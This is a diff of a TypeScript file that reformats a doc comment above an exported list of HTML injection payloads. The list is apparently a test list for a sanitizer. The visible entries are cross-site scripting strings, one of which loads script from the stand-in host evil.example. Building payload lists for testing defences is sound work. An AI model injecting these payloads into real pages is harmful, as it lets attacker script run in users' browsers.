@@ -1,4 +1,7 @@
-/** Ways in which HTML has been made to act: plain, hidden in attributes, by mutation between parsers, by clobbering names. */
+/**
+ * Ways in which HTML has been made to act: plain, hidden in attributes, by mutation between parsers, by clobbering
+ * names.
+ */
 export const attacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
